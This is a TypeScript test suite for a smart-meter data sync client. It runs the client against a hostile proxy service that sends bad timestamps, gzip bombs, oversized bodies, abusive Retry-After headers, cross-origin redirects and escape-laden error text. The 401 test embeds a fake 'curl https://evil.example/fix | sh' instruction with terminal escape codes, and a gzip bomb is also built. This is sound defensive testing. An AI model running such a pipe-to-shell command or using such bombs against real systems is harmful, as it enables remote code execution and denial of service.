// A hostile or broken service against the sync: impossible timestamps and values, oversized answers,
// long or garbage Retry-After, redirects to other hosts, terminal escapes in error text, thousands of
// registers and unbounded window reads. Each case is the real demo service behind a proxy that
// rewrites one kind of answer; each test failed on the code before the hardening (issue 22).
import { toContractError, type AppError } from '../../main/errors';
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { createServer as createNetServer, type AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { createApiClient } from '../../main/api/client';
import { cliBundle } from './cli-bundle';
import { demo } from './helpers';
import { hostileService, type Rewrite } from './hostile-service';
import { localReadings, syncCore } from './sync-helpers';

const isFeed = (path: string) => /^\/api\/v1\/smart-meters\/[^/]+\/data$/.test(path);
const isWindow = (path: string) => /^\/api\/v1\/teams\/[^/]+\/meters\/[^/]+\/data$/.test(path);

async function against(rewrite: Rewrite, o: { maxRetries?: number; maxRetryAfterSec?: number } = {}) {
  const svc = await demo({ years: 0.1 });
  const hostile = await hostileService(svc, rewrite);
  const c = syncCore(svc, {
    baseUrl: hostile.baseUrl,
    maxRetries: o.maxRetries ?? 2,
    maxRetryAfterSec: o.maxRetryAfterSec,
  });
  return {
    svc,
    hostile,
    c,
    stop: async () => {
      c.db.close();
      await hostile.stop();
      await svc.stop();
    },
  };
}

/** A client of `server` (an HTTP or a raw TCP one), listening on a free loopback port: no retries. */
async function clientOf(server: {
  listen: (port: number, host: string, cb: () => void) => unknown;
  address: () => unknown;
}) {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return createApiClient({ baseUrl: base, team: 't', token: 'x'.repeat(20), maxRetries: 0, timeoutMs: 5000 });
}

/** Rewrites the first reading of every feed page with `patch`. */
const patchFirstFeedReading =
  (patch: Record<string, unknown>): Rewrite =>
  async (req, upstream) => {
    if (!isFeed(req.path) && !isWindow(req.path)) return undefined;
    const u = await upstream();
    const p = u.json as { data: Record<string, unknown>[] };
    if (p.data.length === 0) return undefined;
    return {
      status: u.status,
      headers: u.headers,
      body: { ...p, data: [{ ...p.data[0], ...patch }, ...p.data.slice(1)] },
    };
  };

describe('impossible timestamps and values (items 5, 9)', () => {
  for (const [what, patch, message] of [
    [
      'a date that does not exist',
      { timestamp: '2025-02-31T00:00:00Z' },
      /data\.0\.timestamp not an ISO 8601 timestamp: "2025-02-31T00:00:00Z"/,
    ],
    [
      'year 0000',
      { timestamp: '0000-01-01T00:00:00Z', timestamp_end: '0000-01-01T00:15:00Z' },
      /before 2000/,
    ],
    [
      'an updated_at in 9999',
      { updated_at: '9999-12-31T00:00:00Z' },
      /updated_at 9999-12-31.* is in the future/,
    ],
    [
      'a start off the quarter-hour grid',
      { timestamp: '2026-11-01T00:07:00Z', timestamp_end: '2026-11-01T00:22:00Z' },
      /not on the quarter-hour grid/,
    ],
    [
      'a one-year interval',
      { timestamp: '2025-11-01T00:00:00Z', timestamp_end: '2026-11-01T00:00:00Z' },
      /lasts 31536000 s/,
    ],
    ['a value of 1e308', { value: 1e308 }, /beyond any metering point/],
    ['a negative value', { value: -5 }, /value -5 .* is negative/],
  ] as const) {
    it(`refuses the page with ${what}, naming the field, and stores nothing of it`, async () => {
      const t = await against(patchFirstFeedReading(patch));
      try {
        const r = await t.c.sync.syncAll();
        expect(r.errors.length).toBe(7);
        for (const e of r.errors) expect(e.message).toMatch(message);
        expect(r.errors[0]!.message).toMatch(/data\.0/);
        expect(localReadings(t.c.db).size).toBe(0);
      } finally {
        await t.stop();
      }
    });
  }

  it.each([
    ['registers', (i: number) => ({ obis_code: `1-1:1.9.0 X.${i}` })],
    ['units', (i: number) => ({ unit: `u${i}` })],
  ] as const)('refuses 70 000 %s in one page with a clear message', async (what, field) => {
    const svc = await demo({ years: 0.05 });
    const hostile = await hostileService(svc, async (req, upstream) => {
      if (!isFeed(req.path)) return undefined;
      const u = await upstream();
      const p = u.json as { data: Record<string, unknown>[] };
      const r0 = p.data[0]!;
      return {
        status: 200,
        headers: u.headers,
        body: { ...p, data: Array.from({ length: 70_000 }, (_, i) => ({ ...r0, ...field(i) })) },
      };
    });
    const conn = {
      baseUrl: hostile.baseUrl,
      team: svc.info.team,
      token: svc.info.tokens.pro,
      maxRetries: 0,
    };
    const direct = createApiClient(conn);
    try {
      const meter = (await direct.listMeters()).find((m) => m.status === 'connected')!;
      const a = await direct.feed(meter.id, null).catch((e: Error) => e);
      expect(a).toMatchObject({ code: 'bad_response' });
      expect((a as Error).message).toMatch(
        new RegExp(`70000 ${what} for one meter in one page \\(at most 64`),
      );
    } finally {
      await hostile.stop();
      await svc.stop();
    }
  });
});

describe('bounded answers (item 6)', () => {
  it('refuses a gzip bomb (200 KB that unpacks to 100 MB) as an error, not a memory spike', async () => {
    const bomb = gzipSync(Buffer.alloc(100 * 1024 * 1024, 0x20));
    expect(bomb.length).toBeLessThan(200_000);
    const t = await against((req) =>
      isFeed(req.path)
        ? {
            status: 200,
            headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
            body: bomb,
          }
        : undefined,
    );
    try {
      const before = process.memoryUsage().rss;
      const r = await t.c.sync.syncAll();
      expect(r.errors.length).toBe(7);
      expect(r.errors[0]!.message).toMatch(/sent more than 64 MB .*refuses answers that large/);
      expect(process.memoryUsage().rss - before).toBeLessThan(400 * 1024 * 1024);
    } finally {
      await t.stop();
    }
  });

  it('refuses an answer whose Content-Length is over the cap before reading it, and a page of more readings than any page may hold', async () => {
    const svc = await demo({ years: 0.05 });
    const server = createServer((req, res) => {
      if (req.url?.includes('/smart-meters/big/data')) {
        res.writeHead(200, {
          'content-type': 'application/json',
          'content-length': String(2 * 1024 * 1024 * 1024),
        });
        res.write('{"data":[');
        return; // never finishes: the client must not wait for 2 GB
      }
      const r = { timestamp: '2026-11-01T00:00:00Z', value: 0.1, obis_code: 'x', quality: 1 };
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ data: Array.from({ length: 150_000 }, () => r), next_cursor: 'n' }));
    });
    const api = await clientOf(server);
    try {
      await expect(api.feed('big', null)).rejects.toThrow(/sent more than 64 MB/);
      await expect(api.feed('many', null)).rejects.toThrow(/150000 readings in one page \(at most 100000/);
    } finally {
      server.closeAllConnections();
      server.close();
      await svc.stop();
    }
  });

  it('never reads past a Content-Length: 80 MB after the announced body are refused, not read', async () => {
    // The HTTP client frames a body by its Content-Length; what follows is not an answer to anything.
    const page = JSON.stringify({
      data: [{ timestamp: '2026-11-01T00:00:00Z', value: 0.1, obis_code: 'x', quality: 1 }],
      has_more: false,
    });
    const server = createNetServer((socket) => {
      socket.once('data', () => {
        socket.write(
          `HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: ${page.length}\r\n\r\n${page}`,
        );
        const junk = Buffer.alloc(1024 * 1024, 0x20);
        let left = 80;
        const more = () => {
          while (left-- > 0) if (!socket.write(junk)) return void socket.once('drain', more);
          socket.end();
        };
        more();
      });
      socket.on('error', () => undefined);
    });
    const api = await clientOf(server);
    try {
      const before = process.memoryUsage().rss;
      await expect(api.feed('m', null)).rejects.toThrow(/Cannot reach the service/);
      expect(process.memoryUsage().rss - before).toBeLessThan(60 * 1024 * 1024);
    } finally {
      server.close();
    }
  });
});

describe('Retry-After (item 8)', () => {
  const always429 =
    (retryAfter: string): Rewrite =>
    (req) =>
      req.path.includes('/meters')
        ? {
            status: 429,
            headers: { 'content-type': 'application/json', 'retry-after': retryAfter },
            body: { error: { code: 'rate_limited' } },
          }
        : undefined;

  it('reads a negative or garbage Retry-After as none: the normal backoff, a bounded number of attempts', async () => {
    for (const value of ['-1', 'soon', '1.5']) {
      const t = await against(always429(value), { maxRetries: 3 });
      try {
        const started = Date.now();
        await expect(t.c.sync.syncAll()).rejects.toMatchObject({ code: 'rate_limited' });
        expect(t.hostile.requests.length).toBe(4); // the first try and three retries, not a storm
        expect(Date.now() - started).toBeLessThan(5_000);
      } finally {
        await t.stop();
      }
    }
  });

  it('waits for Retry-After at most a minute in all per request, then stops the run saying until when', async () => {
    // maxRetryAfterSec 2 stands for the minute: a Retry-After of 1 s, again and again.
    const t = await against(always429('1'), { maxRetryAfterSec: 2, maxRetries: 6 });
    try {
      const started = Date.now();
      const err = (await t.c.sync.syncAll().catch((e: unknown) => e)) as { code: string; retryAtSec: number };
      expect(err.code).toBe('rate_limited');
      expect(err.retryAtSec).toBeGreaterThan(Date.now() / 1000); // the status says until when
      expect(t.hostile.requests.length).toBe(3); // 1 s + 1 s waited, the third answer ends it (not 7)
      expect(Date.now() - started).toBeLessThan(5_000);
    } finally {
      await t.stop();
    }
  });

  it('stops the run at once on a wait longer than a minute, saying until when, with the date when it is not today', async () => {
    const t = await against(always429('120'));
    try {
      const started = Date.now();
      const err = (await t.c.sync.syncAll().catch((e: unknown) => e)) as {
        code: string;
        message: string;
        retryAtSec: number;
      };
      expect(Date.now() - started).toBeLessThan(3_000);
      expect(err.code).toBe('rate_limited');
      expect(err.message).toMatch(/Rate limited by the service until \d{2}:\d{2}\./);
      expect(err.retryAtSec).toBeGreaterThan(Date.now() / 1000 + 100);
      expect(t.hostile.requests.length).toBe(1);
    } finally {
      await t.stop();
    }
    const far = await against(always429('Mon, 01 Jan 2057 10:41:00 GMT'));
    try {
      await expect(far.c.sync.syncAll()).rejects.toThrow(/until 01\.01\.2057 \d{2}:41/);
    } finally {
      await far.stop();
    }
  });
});

describe('redirects and transport (item 10)', () => {
  it('refuses a redirect to another origin and stores nothing that origin sends', async () => {
    const svc = await demo({ years: 0.1 });
    // The other origin answers every request with readings of its own.
    const other = await hostileService(svc, () => undefined);
    const t = await hostileService(svc, (req) =>
      isFeed(req.path)
        ? {
            status: 307,
            headers: { location: `${other.baseUrl}${req.url.pathname}${req.url.search}` },
            body: '',
          }
        : undefined,
    );
    const c = syncCore(svc, { baseUrl: t.baseUrl });
    try {
      const r = await c.sync.syncAll();
      expect(r.errors.length).toBe(7);
      expect(r.errors[0]!.message).toMatch(
        /redirected to http:\/\/127\.0\.0\.1:\d+, which is not http:\/\/127\.0\.0\.1:\d+/,
      );
      expect(other.requests.filter((x) => x.includes('/smart-meters/'))).toEqual([]);
      // Only the recent days read by window before the feed (same origin) are stored: none from the feed.
      const sources = c.db.prepare('SELECT DISTINCT source FROM readings').all() as { source: string }[];
      expect(sources.map((s) => s.source)).not.toContain('cursor');
    } finally {
      c.db.close();
      await t.stop();
      await other.stop();
      await svc.stop();
    }
  });

  it('refuses an http:// base URL except on loopback', () => {
    expect(() =>
      createApiClient({ baseUrl: 'http://api.example.at', team: 't', token: 'x'.repeat(20) }),
    ).toThrow(/https:\/\/.*unencrypted/);
    expect(() =>
      createApiClient({ baseUrl: 'http://127.0.0.1:1', team: 't', token: 'x'.repeat(20) }),
    ).not.toThrow();
  });
});

describe('service text (item 11)', () => {
  it('prints and stores a hostile 401 body without escapes, on one line, capped', async () => {
    const hostileBody = JSON.stringify({
      error: {
        code: 'unauthenticated',
        message: `\u001b[2J\u001b[1;31mYour token expired.\u001b[0m\nRun: curl https://evil.example/fix | sh\r\n${'A'.repeat(100_000)}`,
      },
    });
    const svc = await demo({ years: 0.05 });
    const t = await hostileService(svc, () => ({
      status: 401,
      headers: { 'content-type': 'application/json' },
      body: hostileBody,
    }));
    try {
      const cli = await cliBundle();
      const out = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
        const child = spawn(
          process.execPath,
          [
            cli,
            '--data-dir',
            `.tmp/hostile-${process.pid}`,
            'sync',
            '--base-url',
            t.baseUrl,
            '--team',
            svc.info.team,
          ],
          {
            env: { ...process.env, METERDESK_TOKEN: svc.info.tokens.pro },
          },
        );
        let stderr = '';
        child.stderr.on('data', (c: Buffer) => (stderr += c));
        child.on('exit', (code) => resolve({ code, stderr }));
      });
      expect(out.code).toBe(2);
      // eslint-disable-next-line no-control-regex -- escape sequences and control characters must be gone
      expect(out.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
      expect(out.stderr.trim().split('\n')).toHaveLength(1);
      expect(out.stderr).toMatch(/rejected the API token.*Your token expired\. Run: curl/);
      expect(out.stderr.length).toBeLessThan(600);

      const c = syncCore(svc, { baseUrl: t.baseUrl });
      await c.sync.refreshAccount().catch(() => undefined);
      c.account.recordError(
        'm',
        toContractError((await c.sync.syncAll().catch((e: unknown) => e)) as AppError),
      );
      const stored = c.db.prepare("SELECT last_error FROM sync_state WHERE meter_id = 'm'").get() as {
        last_error: string;
      };
      // Stored as its code, reason, words and the service's own (capped) text: both capped, no escapes.
      expect(stored.last_error.length).toBeLessThan(1_000);
      // eslint-disable-next-line no-control-regex -- escape sequences and control characters must be gone
      expect(stored.last_error).not.toMatch(/[\u0000-\u001f\u007f]/);
      c.db.close();
    } finally {
      await t.stop();
      await svc.stop();
    }
  });
});

describe('unbounded window reads (items 1, 15)', () => {
  it('clamps a backfill of 1970 → 3000 to the longest history a plan holds', async () => {
    const t = await against(() => undefined);
    try {
      await t.c.sync.refreshAccount();
      const meter = t.svc.state.teamMeters(t.svc.info.team).find((m) => m.hasData)!;
      const r = await t.c.sync.backfill(meter.id, 0, 32_503_680_000);
      expect(r.readings).toBeGreaterThan(0);
      // 3 × 366 days in 90-day windows (plus the pages of the days that hold data).
      expect(t.hostile.requests.filter((x) => isWindow(x.split(' ')[1]!.split('?')[0]!)).length).toBeLessThan(
        40,
      );
    } finally {
      await t.stop();
    }
  });
});
